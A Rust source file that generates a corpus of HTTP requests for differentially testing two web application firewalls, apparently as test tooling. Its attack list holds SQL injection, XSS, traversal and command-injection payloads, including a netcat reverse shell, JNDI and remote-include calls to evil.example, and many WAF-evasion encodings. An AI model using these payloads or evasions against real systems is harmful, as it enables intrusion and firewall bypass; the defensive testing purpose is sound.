//! A generated corpus of HTTP/1.1 requests for differential testing of two WAFs: attacks
//! and benign values, each in many encodings (percent, double, `%u`, overlong and invalid
//! UTF-8, best-fit look-alikes, NUL, backslashes) and places (query, path, cookie,
//! headers, form, JSON, XML, multipart), plus families of body shapes (multipart with
//! binary parts, JSON and XML structures) and unusual request targets. Deterministic:
//! the same names and bytes on every run, so a listed difference names its requests.

// A path relative to this file's directory, so that inspect/tests/fast_path_corpus.rs can
// include this file with #[path] too.
#[path = "corpus/families.rs"]
pub mod families;

/// One request of the corpus: a stable name (`family/variant/...`) and its bytes, with
/// `{ID}` where the request id header's value goes.
pub struct CorpusRequest {
    pub name: String,
    pub raw: Vec<u8>,
}

const ATTACKS: &[(&str, &str)] = &[
    ("sqli-or", "1' OR '1'='1"),
    (
        "sqli-union",
        "1 UNION SELECT username, password FROM users--",
    ),
    ("sqli-sleep", "1 AND SLEEP(5)#"),
    ("sqli-comment", "admin'--"),
    ("xss-script", "<script>alert(1)</script>"),
    ("xss-img", "<img src=x onerror=alert(document.cookie)>"),
    ("xss-js-uri", "javascript:alert(1)"),
    ("lfi-traversal", "../../../../etc/passwd"),
    ("lfi-abs", "/etc/passwd"),
    ("lfi-win", "..\\..\\windows\\win.ini"),
    ("rce-semicolon", ";cat /etc/passwd"),
    ("rce-subshell", "$(id)"),
    ("rce-backtick", "`whoami`"),
    ("rce-pipe", "| nc -e /bin/sh 10.0.0.1 4444"),
    ("php-tag", "<?php system($_GET['c']); ?>"),
    (
        "php-wrapper",
        "php://filter/convert.base64-encode/resource=index.php",
    ),
    ("jndi", "${jndi:ldap://evil.example/a}"),
    ("ssti", "{{7*7}}${7*7}"),
    ("ssrf-meta", "http://169.254.169.254/latest/meta-data/"),
    ("rfi", "http://evil.example/shell.txt?"),
    (
        "xxe",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    ),
    ("nosql", "{\"$ne\": null}"),
    ("crlf", "x\r\nSet-Cookie: a=b"),
    ("dotfile", "config.credentials"),
    ("java", "java.lang.Runtime.getRuntime().exec(\"id\")"),
];

const BENIGN: &[(&str, &str)] = &[
    ("word", "hello world"),
    ("name-apos", "John O'Brien"),
    ("accent", "caf\u{e9} au lait"),
    ("date", "2024-01-01T10:00:00Z"),
    ("math", "a+b=c"),
    ("email", "user@example.com"),
    ("url", "https://example.com/page?x=1&y=2"),
    ("percent", "50% off"),
    ("cjk", "\u{65e5}\u{672c}\u{8a9e}"),
    ("emoji", "ok \u{1f600}"),
    ("winpath", "C:\\Users\\me\\report.pdf"),
    ("select-prose", "please select a product from the list"),
    ("html-bold", "<b>bold</b>"),
    ("compare", "price < 100 & qty > 2"),
    ("turkish", "\u{130}stanbul"),
];

/// Encodings of a value for a URL (query or path), by name.
const ENCODINGS: &[&str] = &[
    "pct-all",
    "pct-min",
    "double",
    "u-escape",
    "overlong",
    "invalid-lead",
    "missing-cont",
    "fullwidth",
    "bestfit",
    "nul",
    "upper-hex",
    "plus-space",
    "backslash",
    "utf8-raw",
    "html-entity",
];

fn hex(b: u8) -> String {
    format!("%{b:02x}")
}

fn unreserved(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~')
}

fn pct_all(v: &[u8]) -> String {
    v.iter()
        .map(|&b| {
            if unreserved(b) {
                (b as char).to_string()
            } else {
                hex(b)
            }
        })
        .collect()
}

/// Encodes only what would break the request line or the argument split.
fn pct_min(v: &[u8]) -> String {
    v.iter()
        .map(|&b| match b {
            b' ' | b'&' | b'#' | b'%' | b'+' | b'?' | b'=' | b'"' | b'<' | b'>' | b'\\' | b'`'
            | b'{' | b'}' | b'|' | b'^' | b'[' | b']' => hex(b),
            0..=0x20 | 0x7f..=0xff => hex(b),
            _ => (b as char).to_string(),
        })
        .collect()
}

/// Best-fit look-alikes ModSecurity's code page 20127 map folds to ASCII.
fn bestfit_char(c: char) -> Option<&'static str> {
    Some(match c {
        ' ' => "%u2002",
        '\'' => "%u2019",
        '"' => "%u201c",
        '<' => "%u2039",
        '>' => "%u203a",
        '-' => "%u2013",
        'i' => "%u0131",
        'I' => "%u0130",
        'e' => "%u00e9",
        'a' => "%u00e0",
        'o' => "%u00f6",
        '/' => "%u2044",
        '.' => "%u2024",
        _ => return None,
    })
}

/// `value` encoded by `encoding` for use in a URL.
pub fn encode(value: &str, encoding: &str) -> String {
    let v = value.as_bytes();
    match encoding {
        "pct-all" => pct_all(v),
        "pct-min" => pct_min(v),
        "double" => pct_all(v).replace('%', "%25"),
        "u-escape" => value
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    c.to_string()
                } else {
                    format!("%u{:04x}", c as u32 & 0xffff)
                }
            })
            .collect(),
        // Two-byte overlong forms of ASCII punctuation (%c0%af is '/').
        "overlong" => v
            .iter()
            .map(|&b| {
                if b.is_ascii_punctuation() || b == b' ' {
                    format!("%{:02x}%{:02x}", 0xc0 | (b >> 6), 0x80 | (b & 0x3f))
                } else {
                    pct_min(&[b])
                }
            })
            .collect(),
        // A lead byte with no continuation before every punctuation character.
        "invalid-lead" => v
            .iter()
            .map(|&b| {
                if b.is_ascii_punctuation() {
                    format!("%c0{}", pct_min(&[b]))
                } else {
                    pct_min(&[b])
                }
            })
            .collect(),
        "missing-cont" => format!("{}%e0%80", pct_min(v)),
        "fullwidth" => value
            .chars()
            .map(|c| {
                if c.is_ascii_graphic() && !c.is_ascii_alphanumeric() {
                    format!("%u{:04x}", c as u32 - 0x20 + 0xff00)
                } else {
                    pct_min(c.to_string().as_bytes())
                }
            })
            .collect(),
        "bestfit" => value
            .chars()
            .map(|c| match bestfit_char(c) {
                Some(s) => s.to_string(),
                None => pct_min(c.to_string().as_bytes()),
            })
            .collect(),
        "nul" => value
            .chars()
            .map(|c| format!("{}%00", pct_min(c.to_string().as_bytes())))
            .collect(),
        "upper-hex" => pct_all(v).to_uppercase(),
        "plus-space" => pct_min(v).replace("%20", "+"),
        "backslash" => pct_min(value.replace('/', "\\").as_bytes()),
        "utf8-raw" => value
            .chars()
            .map(|c| {
                if c.is_ascii() {
                    pct_min(&[c as u8])
                } else {
                    // Two-byte UTF-8 of the best-fit look-alike where there is one.
                    c.to_string().bytes().map(hex).collect()
                }
            })
            .collect(),
        "html-entity" => value
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    c.to_string()
                } else {
                    pct_all(format!("&#x{:x};", c as u32).as_bytes())
                }
            })
            .collect(),
        other => panic!("unknown encoding {other}"),
    }
}

fn request(method: &str, target: &str, headers: &[(&str, String)], body: &[u8]) -> Vec<u8> {
    let mut out = format!("{method} {target} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: palisade-diff/1.0\r\nAccept: */*\r\nX-Request-Id: {{ID}}\r\n").into_bytes();
    for (k, v) in headers {
        out.extend_from_slice(format!("{k}: {v}\r\n").as_bytes());
    }
    if !body.is_empty() || method == "POST" {
        out.extend_from_slice(format!("Content-Length: {}\r\n", body.len()).as_bytes());
    }
    out.extend_from_slice(b"Connection: close\r\n\r\n");
    out.extend_from_slice(body);
    out
}

fn json_string(s: &str) -> String {
    serde_json::to_string(s).unwrap_or_default()
}

fn xml_text(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// A small deterministic byte generator (xorshift) for binary part contents.
struct Bytes(u64);

impl Bytes {
    fn next(&mut self) -> u8 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 24) as u8
    }
    fn take(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next()).collect()
    }
}

/// The whole corpus, in a fixed order.
pub fn corpus() -> Vec<CorpusRequest> {
    let mut out = Vec::new();
    let mut push = |name: String, raw: Vec<u8>| out.push(CorpusRequest { name, raw });
    let values: Vec<(&str, &str, &str)> = ATTACKS
        .iter()
        .map(|(n, v)| ("attack", *n, *v))
        .chain(BENIGN.iter().map(|(n, v)| ("benign", *n, *v)))
        .collect();

    // Every value in every encoding, in the query and in the path.
    for (kind, name, value) in &values {
        for enc in ENCODINGS {
            let e = encode(value, enc);
            push(
                format!("query/{kind}/{name}/{enc}"),
                request("GET", &format!("/search?q={e}&page=1"), &[], b""),
            );
            push(
                format!("argname/{kind}/{name}/{enc}"),
                request("GET", &format!("/search?{e}=1"), &[], b""),
            );
            push(
                format!("path/{kind}/{name}/{enc}"),
                request("GET", &format!("/files/{e}"), &[], b""),
            );
            push(
                format!("form/{kind}/{name}/{enc}"),
                request(
                    "POST",
                    "/submit",
                    &[(
                        "Content-Type",
                        "application/x-www-form-urlencoded".to_string(),
                    )],
                    format!("q={e}&x=1").as_bytes(),
                ),
            );
        }
        // Headers and cookies carry values percent-encoded (cookies) or as is.
        let cookie = pct_min(value.as_bytes());
        push(
            format!("cookie/{kind}/{name}"),
            request(
                "GET",
                "/",
                &[("Cookie", format!("session=abc; pref={cookie}"))],
                b"",
            ),
        );
        if !value.contains(['\r', '\n']) && value.is_ascii() {
            push(
                format!("referer/{kind}/{name}"),
                request(
                    "GET",
                    "/",
                    &[("Referer", format!("http://localhost/?r={value}"))],
                    b"",
                ),
            );
            push(
                format!("header/{kind}/{name}"),
                request("GET", "/", &[("X-Custom", value.to_string())], b""),
            );
        }
        // JSON shapes.
        let j = json_string(value);
        for (shape, body) in [
            ("flat", format!("{{\"q\":{j}}}")),
            ("nested", format!("{{\"a\":{{\"b\":{{\"q\":{j}}}}}}}")),
            ("array", format!("{{\"items\":[1,{j},true]}}")),
            (
                "array-of-objects",
                format!("{{\"items\":[{{\"q\":{j}}},{{\"q\":\"x\"}}]}}"),
            ),
            ("top-array", format!("[{j},{j}]")),
            ("nested-array", format!("{{\"m\":[[{j}],[[\"x\"]]]}}")),
            ("dup-key", format!("{{\"q\":\"safe\",\"q\":{j}}}")),
            ("key", format!("{{{j}:1}}")),
        ] {
            push(
                format!("json/{shape}/{kind}/{name}"),
                request(
                    "POST",
                    "/api",
                    &[("Content-Type", "application/json".to_string())],
                    body.as_bytes(),
                ),
            );
        }
        // XML shapes.
        let x = xml_text(value);
        for (shape, body) in [
            (
                "element",
                format!("<?xml version=\"1.0\"?><r><q>{x}</q></r>"),
            ),
            (
                "attribute",
                format!("<r q=\"{}\"/>", x.replace('"', "&quot;")),
            ),
            ("nested", format!("<a><b><c>{x}</c><c>ok</c></b></a>")),
            (
                "cdata",
                format!("<r><![CDATA[{}]]></r>", value.replace("]]>", "")),
            ),
        ] {
            push(
                format!("xml/{shape}/{kind}/{name}"),
                request(
                    "POST",
                    "/api",
                    &[("Content-Type", "application/xml".to_string())],
                    body.as_bytes(),
                ),
            );
        }
        // Multipart: the value in a field, in a file part's content and in a filename.
        let b = "----palisadeDiffBoundary";
        let field = format!(
            "--{b}\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{value}\r\n--{b}--\r\n"
        );
        let file = format!(
            "--{b}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n{value}\r\n--{b}--\r\n"
        );
        let fname = format!(
            "--{b}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{}\"\r\nContent-Type: application/octet-stream\r\n\r\nxyz\r\n--{b}--\r\n",
            value.replace(['"', '\r', '\n'], "")
        );
        for (shape, body) in [("field", field), ("file", file), ("filename", fname)] {
            push(
                format!("multipart/{shape}/{kind}/{name}"),
                request(
                    "POST",
                    "/upload",
                    &[("Content-Type", format!("multipart/form-data; boundary={b}"))],
                    body.as_bytes(),
                ),
            );
        }
    }

    // Multipart with binary content: random bytes (bare LF, CR, NUL included), sizes
    // from a few bytes to 48 KiB, one or several parts, text fields beside.
    let b = "----palisadeBinary";
    let mut rng = Bytes(0x9e37_79b9_7f4a_7c15);
    for (i, size) in [1usize, 7, 64, 255, 1024, 4096, 16 * 1024, 48 * 1024]
        .iter()
        .enumerate()
    {
        for variant in [
            "octet",
            "image",
            "two-files",
            "with-field",
            "lf-only-content",
        ] {
            let content = rng.take(*size);
            let mut body = Vec::new();
            let part = |body: &mut Vec<u8>, name: &str, fname: &str, ct: &str, data: &[u8]| {
                body.extend_from_slice(
                    format!("--{b}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{fname}\"\r\nContent-Type: {ct}\r\n\r\n").as_bytes(),
                );
                body.extend_from_slice(data);
                body.extend_from_slice(b"\r\n");
            };
            match variant {
                "octet" => part(
                    &mut body,
                    "file",
                    "blob.bin",
                    "application/octet-stream",
                    &content,
                ),
                "image" => {
                    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
                    png.extend_from_slice(&content);
                    part(&mut body, "avatar", "me.png", "image/png", &png);
                }
                "two-files" => {
                    part(
                        &mut body,
                        "a",
                        "a.bin",
                        "application/octet-stream",
                        &content,
                    );
                    part(
                        &mut body,
                        "b",
                        "b.bin",
                        "application/octet-stream",
                        &content[..content.len() / 2],
                    );
                }
                "with-field" => {
                    body.extend_from_slice(
                        format!("--{b}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday photos\r\n").as_bytes(),
                    );
                    part(&mut body, "file", "p.jpg", "image/jpeg", &content);
                }
                _ => {
                    let lf: Vec<u8> = content
                        .iter()
                        .map(|&c| if c == b'\r' { b'\n' } else { c })
                        .collect();
                    part(&mut body, "file", "notes.txt", "text/plain", &lf);
                }
            }
            body.extend_from_slice(format!("--{b}--\r\n").as_bytes());
            push(
                format!("multipart-binary/{variant}/{i}-{size}"),
                request(
                    "POST",
                    "/upload",
                    &[("Content-Type", format!("multipart/form-data; boundary={b}"))],
                    &body,
                ),
            );
        }
    }
    // Multipart framing variants.
    let framing: &[(&str, &[u8])] = &[
        ("lf-only", b"--B\nContent-Disposition: form-data; name=\"a\"\n\nvalue\n--B--\n"),
        ("crlf-preamble", b"\r\n--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nvalue\r\n--B--\r\n"),
        ("text-preamble", b"preamble text\r\n--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nvalue\r\n--B--\r\n"),
        ("nul-filename", b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"info.php\0.jpg\"\r\n\r\nx\r\n--B--\r\n"),
        ("no-final", b"--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nvalue\r\n"),
        ("quoted-name-semicolon", b"--B\r\nContent-Disposition: form-data; name=\"a;b\"\r\n\r\nvalue\r\n--B--\r\n"),
        ("epilogue", b"--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nvalue\r\n--B--\r\nepilogue\r\n"),
        ("header-folding", b"--B\r\nContent-Disposition: form-data;\r\n name=\"a\"\r\n\r\nvalue\r\n--B--\r\n"),
        ("no-disposition", b"--B\r\nContent-Type: text/plain\r\n\r\nvalue\r\n--B--\r\n"),
        ("empty-part", b"--B\r\n\r\n\r\n--B--\r\n"),
    ];
    for (name, body) in framing {
        push(
            format!("multipart-framing/{name}"),
            request(
                "POST",
                "/upload",
                &[(
                    "Content-Type",
                    "multipart/form-data; boundary=B".to_string(),
                )],
                body,
            ),
        );
    }

    // Overlong and invalid UTF-8, byte by byte, in a path-traversal and a plain query.
    let bad: &[(&str, &str)] = &[
        ("c0-slash", "%c0/"),
        ("c1-slash", "%c1/"),
        ("e0-slash", "%e0/"),
        ("e0-80-slash", "%e0%80/"),
        ("f0-slash", "%f0/"),
        ("f0-80-80-slash", "%f0%80%80/"),
        ("f8-slash", "%f8/"),
        ("ff-slash", "%ff/"),
        ("80-slash", "%80/"),
        ("bf-slash", "%bf/"),
        ("c0af", "%c0%af"),
        ("c0ae", "%c0%ae"),
        ("e080af", "%e0%80%af"),
        ("f08080af", "%f0%80%80%af"),
        ("c1-9c", "%c1%9c"),
        ("surrogate", "%ed%a0%80/"),
        ("c2-a0", "%c2%a0/"),
        ("end-c0", "/%c0"),
    ];
    for (name, seq) in bad {
        push(
            format!("utf8/traversal/{name}"),
            request("GET", &format!("/?a=x{seq}etc{seq}passwd"), &[], b""),
        );
        push(
            format!("utf8/dotdot/{name}"),
            request(
                "GET",
                &format!("/?file=..{seq}..{seq}..{seq}etc{seq}shadow"),
                &[],
                b"",
            ),
        );
        push(
            format!("utf8/path/{name}"),
            request(
                "GET",
                &format!("/static/..{seq}..{seq}etc{seq}passwd"),
                &[],
                b"",
            ),
        );
        push(
            format!("utf8/benign/{name}"),
            request("GET", &format!("/?name=Jos{seq}e"), &[], b""),
        );
        push(
            format!("utf8/xss/{name}"),
            request(
                "GET",
                &format!("/?q=%3Cscript{seq}%3Ealert(1)%3C/script%3E"),
                &[],
                b"",
            ),
        );
    }
    // Best-fit code points one by one inside a SQLi and an XSS payload.
    for cp in [
        0x00a0u32, 0x00ab, 0x00bb, 0x0130, 0x0131, 0x017f, 0x02b9, 0x02bc, 0x02c8, 0x02dc, 0x2000,
        0x2001, 0x2002, 0x2003, 0x2004, 0x2005, 0x2006, 0x2007, 0x2008, 0x2009, 0x200a, 0x2010,
        0x2013, 0x2018, 0x2019, 0x201c, 0x2032, 0x2039, 0x203a, 0x2044, 0x2215, 0x2216, 0x2260,
        0x2264, 0x3000, 0x3008, 0x3009, 0xff07, 0xff1c, 0xff1e, 0xff0f, 0xfe64, 0xfe65, 0x00b4,
        0x0060, 0x0152, 0x0153, 0x2122,
    ] {
        push(
            format!("bestfit/sqli/{cp:04x}"),
            request("GET", &format!("/?id=1%u{cp:04x}or%u{cp:04x}1=1"), &[], b""),
        );
        push(
            format!("bestfit/xss/{cp:04x}"),
            request(
                "GET",
                &format!("/?q=%u{cp:04x}script%u{cp:04x}alert(1)%u{cp:04x}/script%u{cp:04x}"),
                &[],
                b"",
            ),
        );
        push(
            format!("bestfit/quote/{cp:04x}"),
            request("GET", &format!("/?user=admin%u{cp:04x}--"), &[], b""),
        );
    }

    // Unusual targets.
    let targets: &[(&str, &str)] = &[
        ("encoded-slash", "/a%2fb%2f..%2f..%2fetc%2fpasswd"),
        ("encoded-backslash", "/x%5Cu0027%20or%201=1"),
        ("decoded-query-mark", "/index.php%3Fid=1%27%20or%201=1"),
        ("semicolon-params", "/app;jsessionid=abc/admin"),
        ("double-slash", "//etc//passwd"),
        ("dot-segments", "/./a/../b/./c"),
        ("encoded-dots", "/%2e%2e/%2e%2e/etc/passwd"),
        ("u-dots", "/%u002e%u002e/%u002e%u002e/etc/passwd"),
        (
            "absolute-form",
            "http://localhost/?q=1%27%20or%20%271%27=%271",
        ),
        ("absolute-https", "https://localhost:443/a?b=<script>"),
        ("query-only-mark", "/?"),
        ("empty-arg", "/?a&b=&=c"),
        ("repeated-args", "/?a=1&a=2&a=%27"),
        ("bracket-names", "/?user[name]=x&user[role]=admin%27--"),
        (
            "long-path",
            "/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/b",
        ),
        ("php-ext", "/shell.php"),
        ("backup-ext", "/index.php.bak"),
        ("git-dir", "/.git/config"),
        ("env-file", "/.env"),
        ("htaccess", "/.htaccess"),
        ("encoded-null", "/index.html%00.php"),
        ("percent-invalid", "/%zz%4"),
        ("plus-in-path", "/a+b/c+d"),
        ("utf8-path", "/caf%c3%a9/men%c3%bc"),
        ("tilde", "/~root/.ssh/id_rsa"),
        ("cgi", "/cgi-bin/test.cgi?x=;id"),
        (
            "wp-admin",
            "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
        ),
        ("uppercase-pct", "/%2E%2E/%2E%2E/ETC/PASSWD"),
        ("mixed-sep", "/a\\..\\..\\windows\\system32"),
        ("ampersand-path", "/a&b=c"),
    ];
    for (name, t) in targets {
        push(format!("target/{name}"), request("GET", t, &[], b""));
        push(format!("target-head/{name}"), request("HEAD", t, &[], b""));
    }
    // Methods and protocol details.
    for m in [
        "GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "PROPFIND", "TRACE",
    ] {
        push(format!("method/{m}"), request(m, "/resource/1", &[], b""));
    }
    for (name, ct) in [
        ("json-charset", "application/json; charset=utf-8"),
        ("text-plain", "text/plain"),
        ("soap", "application/soap+xml"),
        (
            "form-charset",
            "application/x-www-form-urlencoded; charset=UTF-8",
        ),
        ("weird", "application/x-evil"),
        ("none", ""),
    ] {
        let mut h = Vec::new();
        if !ct.is_empty() {
            h.push(("Content-Type", ct.to_string()));
        }
        push(
            format!("content-type/{name}"),
            request("POST", "/api", &h, b"q=1' or '1'='1&x={\"a\":\"<script>\"}"),
        );
    }
    families::families(&mut push, &values);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_is_large_and_names_are_unique() {
        let c = corpus();
        assert!(c.len() > 3000, "{} requests", c.len());
        let names: std::collections::BTreeSet<_> = c.iter().map(|r| r.name.as_str()).collect();
        assert_eq!(names.len(), c.len(), "duplicate names");
    }

    #[test]
    fn overlong_and_invalid_lead_encodings() {
        assert_eq!(encode("a/b", "overlong"), "a%c0%afb");
        assert_eq!(encode("a/b", "invalid-lead"), "a%c0/b");
    }
}
